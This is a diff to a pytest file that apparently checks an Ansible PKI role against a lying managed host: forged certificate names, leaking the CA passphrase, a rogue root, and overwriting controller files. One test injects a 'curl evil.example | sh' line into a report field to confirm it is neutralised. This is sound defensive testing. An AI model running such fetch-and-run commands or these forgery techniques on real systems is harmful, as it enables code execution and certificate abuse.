@@ -10,7 +10,6 @@ import forging
 import host_certificates
 import pki
 import plays
-import podman
 import pytest
 from host_certificates import CA_ROLE, PASSPHRASE, existing_ca
 
@@ -23,11 +22,7 @@ VICTIM = {"name": "evil", "common_name": "victim", "subject_alt_name": ["DNS:vic
 @pytest.fixture(scope="module")
 def hosts():
     """A host that lies and one that does not."""
-    with podman.fleet({EVIL: "el9", HONEST: "debian12"}) as fleet:
-        forging.bring(fleet[EVIL])
-        inventory = json.loads(fleet.inventory.read_text())
-        inventory["all"].setdefault("hosts", {})[EVIL] = {"ansible_python_interpreter": forging.PYTHON}
-        fleet.inventory.write_text(json.dumps(inventory))
+    with forging.fleet(EVIL, HONEST) as fleet:
         yield fleet
 
 
@@ -46,14 +41,9 @@ def certificates(host):
     return {line.strip() for line in listed.stdout.splitlines() if "DNS:" in line}
 
 
-def as_facts(**facts):
-    """A lie of any module."""
-    return {"ansible_facts": facts}
-
-
 def test_attack_1_names_of_others_in_a_request(hosts, tmp_path):
     """csr's answer says which certificates the host is to have, and the CA signs them."""
-    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **as_facts(
+    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **forging.as_facts(
         host_certificate_certificates=[VICTIM])})
     done = play(hosts, **existing_ca(tmp_path))
     assert not [one for one in certificates(hosts[EVIL]) if "victim" in one or "bank" in one], done.output
@@ -63,14 +53,14 @@ def test_attack_1_names_of_others_in_a_request(hosts, tmp_path):
 
 def test_attack_2_the_passphrase_of_the_ca(hosts, tmp_path):
     """csr's answer says that the host is the CA's host: its key's passphrase would be sent there."""
-    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **as_facts(private_ca_host=EVIL)})
+    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **forging.as_facts(private_ca_host=EVIL)})
     play(hosts, **existing_ca(tmp_path))
     assert "csr" in forging.executed(hosts[EVIL])
     assert not forging.received(hosts[EVIL], PASSPHRASE)
     # Or that the requests are for somebody outside, and in which folder of the controller.
     secret = tmp_path / "secret.pem"
     secret.write_text(pki.root("Secret Root").pem)
-    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **as_facts(
+    forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **forging.as_facts(
         host_certificate_source="external", host_certificate_external_dir=str(tmp_path / "folder"),
         host_certificate_external_trust=str(secret))})
     (tmp_path / "folder").mkdir()
@@ -86,7 +76,7 @@ def test_attack_3_a_root_of_ones_own_for_all(hosts, tmp_path):
     facts = {"private_ca_host": EVIL, "private_ca_become": True, "private_ca_dir": "/srv/evil"}
     for name in ("root/root.crt", "issuing/issuing.crt", "issuing/chain.pem"):
         hosts[EVIL].write(f"/srv/evil/{name}", root.pem.encode())
-    forging.lie(hosts[EVIL], setup=as_facts(**facts))
+    forging.lie(hosts[EVIL], setup=forging.as_facts(**facts))
     book = [{"hosts": "all", "gather_facts": False, "tasks": tasks},
             {"hosts": "all", "gather_facts": False, "tasks": [
                 {"ansible.builtin.include_role": {"name": CA_ROLE, "tasks_from": "read"}}],
@@ -117,10 +107,11 @@ def test_attack_4_a_file_of_the_controllers(hosts, tmp_path):
     """ca_trust_info's answer says where the report is written, and what of it."""
     precious = tmp_path / "bashrc"
     precious.write_text("precious\n")
-    forging.lie(hosts[EVIL], ca_trust_info={"store": "x\n curl evil.example | sh\n", **as_facts(
+    forging.lie(hosts[EVIL], ca_trust_info={"store": "x\n curl evil.example | sh\n", **forging.as_facts(
         trust_report_prometheus=str(precious), trust_report_html=str(precious), trust_report_dir=str(tmp_path))})
     done = plays.playbook(hosts.inventory, "fleetpki.host_trust.report", variables={
         "trust_report_dir": str(tmp_path / "report"), "host_trust_become": False})
     assert precious.read_text() == "precious\n", done.output
-    assert "curl evil" not in (tmp_path / "report" / "report.prom").read_text().replace("\\n", "\n").split("\n")
+    metrics = (tmp_path / "report" / "report.prom").read_text().splitlines()
+    assert not [line for line in metrics if line.strip().startswith("curl")]
     assert json.loads((tmp_path / "report" / "report.json").read_text())["counts"]["hosts"]["ok"] == 2
